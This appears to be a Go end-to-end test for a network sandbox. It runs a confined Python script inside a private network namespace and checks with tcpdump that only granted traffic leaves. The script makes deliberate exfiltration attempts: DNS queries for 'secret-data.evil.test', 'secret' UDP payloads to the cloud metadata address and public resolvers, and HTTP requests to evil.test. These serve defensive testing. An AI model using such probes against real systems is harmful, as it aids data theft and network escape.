package e2e

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// hostScript makes a host of the test's own, with a way out, a resolver and a server behind it, and writes down every packet that leaves a
// cell's host: $1 the program, $2 a folder, $3 the script of the cell.
const hostScript = `set -e
ip link set lo up
ip link add out type veth peer name far
ip addr add 203.0.113.2/24 dev out
ip -6 addr add 2001:db8:1::2/64 dev out nodad
ip link set far up; ip link set out up
ip route add default via 203.0.113.1
ip -6 route add default via 2001:db8:1::1
for n in 1 9 77; do ip neigh add 203.0.113.$n lladdr 02:00:00:00:00:09 dev out; done
ip -6 neigh add 2001:db8:1::1 lladdr 02:00:00:00:00:09 dev out
cd "$2"
tcpdump -Z root -i any -nn -l -U --immediate-mode -w packets >tcpdump.out 2>tcpdump.err & dump=$!
python3 -c "$SERVERS" >ports & servers=$!
trap 'kill $servers $dump 2>/dev/null || true; wait' EXIT
i=0; while ! [ -s ports ] || ! grep -q listening tcpdump.err; do sleep 0.1; i=$((i+1)); [ $i -lt 600 ]; done
read -r dns http <ports
# What leaves by itself shows that everything would be seen.
python3 -c "import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'canary',('203.0.113.9',9))" || true
"$1" run --quiet --env HTTP="$http" --net "a.test:$http/http" --private a.test=127.0.0.1 --dns "127.0.0.1:$dns" --net gone.test:80 --net 203.0.113.77:7 -- python3 -c "$3" >cell.out 2>cell.err || echo "exit $?" >>cell.out
sleep 0.5
kill $dump; wait $dump || true
tcpdump -Z root -nn -r packets 2>/dev/null >text
`

const hostServers = `
import socket,threading,http.server,sys
d=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); d.bind(('127.0.0.1',0))
def names():
    while True:
        q,at=d.recvfrom(512); e=q.index(0,12)+5; ok=q[12:e-4]==b'\1a\4test\0' and q[e-3]==1
        d.sendto(q[:2]+(b'\x81\x80' if q[12:e-4]==b'\1a\4test\0' else b'\x81\x83')+b'\0\1'+(b'\0\1' if ok else b'\0\0')+bytes(4)+q[12:e]+(b'\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x7f\0\0\1' if ok else b''),at)
threading.Thread(target=names,daemon=True).start()
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.send_header('Content-Length','2'); self.end_headers(); self.wfile.write(b'ok')
    def log_message(self,*a): pass
s=http.server.ThreadingHTTPServer(('127.0.0.1',0),H)
print(d.getsockname()[1],s.server_address[1],flush=True)
s.serve_forever()
`

// TestNothingElseLeaves: of everything that a cell tries, the host sends its own questions for granted names and the granted connections.
func TestNothingElseLeaves(t *testing.T) {
	needs(t, "python3", "tcpdump", "ip", "unshare")
	if os.Getuid() != 0 {
		t.Skip("making a host of the test's own needs root")
	}
	online(t, user{})
	b := newBench(t, user{})
	script := attackHelp + `
assert status(http(b'GET / HTTP/1.0\r\nHost: a.test\r\n\r\n'))==['200']
for n in ('evil.test','secret-data.evil.test','gone.test'):
    for k in (1,28,16,255,12): dns(q(n,k),5)
dns(q('a.test',flags=0x2900),0.2); dns(q('a.test',tail=b'secret'),0.2)
for a in ('203.0.113.9','8.8.8.8','169.254.169.254','10.0.0.1','224.0.0.1','255.255.255.255','198.18.0.2','198.19.0.9','127.0.0.1'):
    for p in (22,53,80,443,853): connect(a,p)
    for p in (53,123,443,853):
        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(0.05)
        try: s.sendto(b'secret',(a,p)); s.recv(1)
        except OSError: pass
for a in ('2001:db8:1::9','::ffff:203.0.113.9','fe80::1','ff02::1'): connect(a,80,socket.AF_INET6)
connect('gone.test',80)
for h in (b'evil.test',b'203.0.113.9'): http(b'GET / HTTP/1.1\r\nHost: '+h+b'\r\n\r\n')
connect('203.0.113.77',7)
print('done')
`
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "unshare", "-n", "sh", "-c", hostScript, "sh", binary, b.dir, script)
	cmd.Env = append(b.env, "SERVERS="+hostServers)
	cmd.WaitDelay = 10 * time.Second
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	say := func(name string) string {
		text, err := os.ReadFile(filepath.Join(b.dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	if out := say("cell.out"); out != "done\n" {
		t.Fatalf("the cell said %q\n%s", out, say("cell.err"))
	}
	ports := strings.Fields(say("ports"))
	allowed := []*regexp.Regexp{
		regexp.MustCompile(`\blo\b.* IP 127\.0\.0\.1\.` + ports[0] + ` > 127\.0\.0\.1\.\d+:|\blo\b.* IP 127\.0\.0\.1\.\d+ > 127\.0\.0\.1\.` + ports[0] + `:`),
		regexp.MustCompile(`\blo\b.* IP 127\.0\.0\.1\.` + ports[1] + ` > 127\.0\.0\.1\.\d+:|\blo\b.* IP 127\.0\.0\.1\.\d+ > 127\.0\.0\.1\.` + ports[1] + `:`),
		regexp.MustCompile(`\bout\b.* IP 203\.0\.113\.2\.\d+ > 203\.0\.113\.77\.7: Flags \[S\]`), // granted; nobody answers
	}
	canary, questions, granted := 0, 0, 0
	for line := range strings.Lines(say("text")) {
		switch {
		case strings.Contains(line, " far "): // the other end of the same wire
		case strings.Contains(line, "> 203.0.113.9.9: UDP, length 6"):
			canary++
		case allowed[0].MatchString(line):
			questions++
		case allowed[1].MatchString(line), allowed[2].MatchString(line):
			granted++
		case regexp.MustCompile(`IP6 .*ICMP6|IP6 .*HBH`).MatchString(line): // the kernel's own: neighbours, groups
		default:
			t.Errorf("left the host: %s", line)
		}
		if strings.Contains(line, "evil") || strings.Contains(line, "secret") {
			t.Errorf("what the cell said left the host: %s", line)
		}
	}
	if canary == 0 || questions == 0 || granted == 0 {
		t.Errorf("%d canaries, %d questions and %d packets of granted connections were seen", canary, questions, granted)
	}
}
